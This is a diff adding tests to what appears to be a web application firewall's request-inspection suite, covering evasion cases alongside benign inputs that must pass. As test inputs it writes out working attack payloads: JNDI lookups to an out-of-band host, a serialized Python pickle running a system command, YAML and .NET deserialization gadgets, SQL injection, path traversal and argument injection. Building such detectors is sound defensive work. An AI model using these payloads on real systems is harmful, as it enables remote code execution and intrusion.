@@ -191,3 +191,54 @@ describe('round 2: false alarms on e-commerce, health, CMS, mobile and template 
     expect(q("1;IF(1=1) WAITFOR DELAY '0:0:5'--")).toContain('sqli.stacked-query');
   });
 });
+
+describe('round 2: blind spots in evasions', () => {
+  it('a lookup in a header that is otherwise not read (Authorization, Accept-Language)', () => {
+    for (const [name, value] of [['authorization', 'Bearer ${jndi:ldap://x7k2p9.oastify.com:1389/a}'], ['accept-language', 'en-US,${jndi:ldap://example.net/al}']] as const) {
+      expect(ruleIds(pl2, { method: 'GET', path: '/', query: '', headers: { host: 'h', [name]: value } }), name).toContain('jndi.lookup');
+    }
+    expect(passes({ method: 'GET', path: '/', query: '', headers: { host: 'h', 'accept-language': 'en-US,en;q=0.9', authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.x' } })).toBe(true);
+  });
+
+  it('Python pickles, YAML object tags and .NET gadget types', () => {
+    const pickle4 = Buffer.concat([Buffer.from([0x80, 0x04, 0x95, 0x20, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x05]), Buffer.from('posix'), Buffer.from([0x94, 0x8c, 0x06]), Buffer.from('system'), Buffer.from([0x94, 0x93, 0x94, 0x8c, 0x02]), Buffer.from('id'), Buffer.from([0x94, 0x85, 0x94, 0x52, 0x94, 0x2e])]).toString('base64');
+    expect(ruleIds(pl2, jsonRequest('model', pickle4))).toContain('deser.python-pickle');
+    expect(ruleIds(pl2, { method: 'GET', path: '/', query: '', headers: { host: 'h', cookie: `session=${Buffer.from('cposix\nsystem\n(Vid\ntR.').toString('base64')}` } })).toContain('deser.python-pickle');
+    expect(ruleIds(pl2, jsonRequest('config', '!!python/object/apply:os.system ["id"]'))).toContain('deser.yaml-object-tag');
+    expect(ruleIds(pl2, jsonRequest('config', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]'))).toContain('deser.yaml-object-tag');
+    const dotnet = JSON.stringify({ __type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework', MethodName: 'Start' });
+    expect(ruleIds(pl2, { method: 'POST', path: '/x', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: dotnet })).toContain('deser.dotnet-gadget');
+    for (const v of ['gAAAAABkx3hJ9mZ3', 'tags: !!str 123\nname: !!binary R0lGODlh', 'Use System.Text.Json or Newtonsoft', 'Great product!! Would buy again!!']) expect(passes(jsonRequest('x', v)), v).toBe(true);
+  });
+
+  it('UNION DISTINCTROW and MySQL 8 TABLE', () => {
+    expect(q('-1 UNION DISTINCTROW SELECT 1,2,3-- -')).toContain('sqli.union-select');
+    expect(q('-1 union table users')).toContain('sqli.union-select');
+    expect(passes(queryRequest('the workers union table is full'))).toBe(true);
+  });
+
+  it('parameter pollution: repeated values are read joined with commas, as ASP.NET joins them', () => {
+    const r = pl2.inspect({ method: 'GET', path: '/p', query: 'id=1/*&id=*/union/*&id=*/select/*&id=*/null,username,password/*&id=*/from/*&id=*/users--', headers: { host: 'h' } });
+    expect(r.findings.map((f) => f.ruleId)).toContain('sqli.union-select');
+    expect(passes({ method: 'GET', path: '/p', query: 'tag=red&tag=blue&tag=union&tag=select', headers: { host: 'h' } })).toBe(true);
+  });
+
+  it("a multipart filename*= (RFC 5987) is decoded and read like filename=", () => {
+    const b = 'Xb';
+    const body = `--${b}\r\nContent-Disposition: form-data; name="doc"; filename="a.pdf"; filename*=UTF-8''x%27%3Bselect%20pg_sleep(5)--.pdf\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--${b}--\r\n`;
+    expect(ruleIds(pl2, { method: 'POST', path: '/upload', query: '', headers: { host: 'h', 'content-type': `multipart/form-data; boundary=${b}` }, body })).toContain('sqli.time-function');
+  });
+
+  it('path tricks: ..;/ (Tomcat) blocks; a segment ending in .. (nginx alias) adds weight', () => {
+    expect(ruleIds(pl2, { method: 'GET', path: '/api/public/..;/manager/html', query: '', headers: { host: 'h' } })).toContain('traversal.dot-dot');
+    expect(ruleIds(pl2, { method: 'GET', path: '/static../app/settings.py', query: '', headers: { host: 'h' } })).toContain('traversal.dot-dot-single');
+  });
+
+  it('command forms: argument injection, a cmd.exe substring, a delay after a line break', () => {
+    expect(q('--upload-pack=touch /tmp/pwned')).toContain('cmdi.argument-injection');
+    expect(q('host -oProxyCommand=curl x')).toContain('cmdi.argument-injection');
+    expect(q('127.0.0.1&net%PROGRAMFILES:~10,-5%user')).toContain('cmdi.windows');
+    expect(q('127.0.0.1\nsleep 10')).toContain('cmdi.chained-command');
+    for (const v of ['Meeting at 10\nsleep 8 hours', 'git clone --depth 1 https://example.com/r.git', 'Use --receive-pack only on the server side']) expect(passes(queryRequest(v)), v).toBe(true);
+  });
+});
